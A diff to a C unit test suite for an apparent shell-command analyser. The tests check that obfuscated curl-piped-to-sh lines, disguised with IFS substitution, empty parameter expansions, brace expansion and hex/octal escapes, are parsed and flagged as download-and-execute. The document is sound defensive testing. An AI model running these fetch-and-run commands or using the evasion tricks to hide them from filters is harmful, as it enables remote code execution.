@@ -108,6 +108,13 @@ static void test_quoting_and_pipe(void **state) {
     expect_error(o, NULL);
     cJSON_Delete(o);
 
+    /* IFS as a blank, $@ as nothing, brace expansion */
+    o = script("c$@u$*rl${IFS}-s${IFS}http://x|{sh,-s}");
+    expect_list(o, "process.stages.program", L("curl", "sh"));
+    expect_list(o, "process.stages.args", L("-s", "http://x", "-s"));
+    expect_flags(o, GSH_F_DOWNLOAD_SHELL);
+    cJSON_Delete(o);
+
     /* bash's $'...' with hex and octal escapes */
     o = script("$'\\x63\\165rl' http://x | sh");
     expect_list(o, "process.stages.program", L("curl", "sh"));
